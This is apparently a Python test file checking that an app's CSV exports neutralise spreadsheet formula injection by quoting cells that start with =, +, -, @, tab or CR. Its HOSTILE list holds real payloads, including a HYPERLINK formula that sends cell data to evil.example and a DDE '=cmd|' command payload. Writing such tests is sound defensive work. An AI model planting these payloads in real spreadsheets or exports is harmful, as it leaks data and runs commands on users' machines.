"""CSV exports escape formula-like cells (OWASP) and keep numbers numbers (issue 9, item 14).

Case ../shared/cases/adv-csv-formula-injection: a moment titled ``=HYPERLINK(...)``, a metric
keyed ``=1+1`` and a scenario named ``=cmd|'/c calc'!A1`` came out of every CSV export as
formulas a spreadsheet runs.
"""

import csv
import io

import pytest

from journey import csvsafe, exchange, formulas, kpis, samples
from tests.conftest import run_cli

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tstarts with a tab",
    "\rstarts with a CR",
    "=cmd|'/c calc'!A1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -2, -2.5, 1e30, 3.25, True])
def test_numbers_stay_numbers(value):
    assert csvsafe.cell(value) is value


@pytest.mark.parametrize("text", ["-2", "+3.5", "-1e-3", "Plain text", "", "a=b", "2026-01-01"])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(text):
    assert csvsafe.cell(text) == text


def test_none_is_an_empty_cell():
    assert csvsafe.cell(None) == ""


@pytest.fixture
def hostile_journey_id(store):
    doc = samples.load_sample("car-buying")
    journey = doc["journeys"][0]
    journey["stages"][0]["moments"].append(
        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"}
    )
    journey["stages"][1]["label"] = "-2+3"
    journey["metrics"].append(
        {
            "key": "=1+1",
            "name": "-2+3",
            "side": "buyer",
            "unit": "@A1",
            "values": [{"date": "2026-01-01", "value": -4.5}],
        }
    )
    journey["scenarios"].append({"name": HOSTILE[-1], "levers": {"margin": 0.5}})
    return store.import_document(doc).journeys[0]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formula_cells(text: str) -> list[str]:
    return [
        c
        for row in cells(text)
        for c in row
        if c.startswith(csvsafe.FORMULA_STARTS)
        and c.lstrip("+-").replace(".", "", 1).replace("e-", "", 1).isdigit() is False
    ]


def test_every_csv_export_escapes_the_hostile_cells(store, hostile_journey_id):
    journey = store.load_journey(hostile_journey_id)
    baseline = formulas.levers_from_journey(journey)
    scenarios = {s.name: formulas.apply(baseline, s.levers) for s in journey.scenarios}
    exports = {
        "stages": exchange.stages_csv(journey),
        "moments": exchange.moments_csv(journey),
        "metrics": exchange.metrics_csv(journey),
        "kpi values": kpis.kpi_values_csv(journey),
        "scenario comparison": kpis.scenarios_csv(formulas.compare(baseline, scenarios)),
    }
    assert {name: formula_cells(text) for name, text in exports.items()} == {
        name: [] for name in exports
    }
    moments = cells(exports["moments"])
    assert ["awareness", "friction", "'" + HOSTILE[0]] == moments[-1][:3] or any(
        row[2] == "'" + HOSTILE[0] for row in moments
    )
    metric_row = cells(exports["metrics"])[-1]
    assert metric_row[:4] == ["'=1+1", "'-2+3", "buyer", "'@A1"]
    assert metric_row[-1] == "-4.5"  # a negative number stays a number
    assert any(row[0] == "'" + HOSTILE[-1] for row in cells(exports["scenario comparison"]))
    assert any(row[0] == "'=1+1" and row[-1] == "-4.5" for row in cells(exports["kpi values"]))


def test_the_command_line_csv_export_escapes_formula_cells(seeded_db, tmp_path):
    db = seeded_db
    doc = samples.load_sample("car-buying")
    doc["journeys"][0]["stages"][0]["moments"].append(
        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"}
    )
    path = tmp_path / "formula-cells.json"
    path.write_text(exchange.dumps(doc))
    assert run_cli("import", str(path), db=db).returncode == 0
    out = run_cli("export", "--journey", "4", "--csv", "moments", db=db).stdout
    [row] = [r for r in cells(out) if "HYPERLINK" in ",".join(r)]
    assert row[2] == "'" + HOSTILE[0] and row[6] == "'+1+1" and row[7] == "'@SUM(A1)"
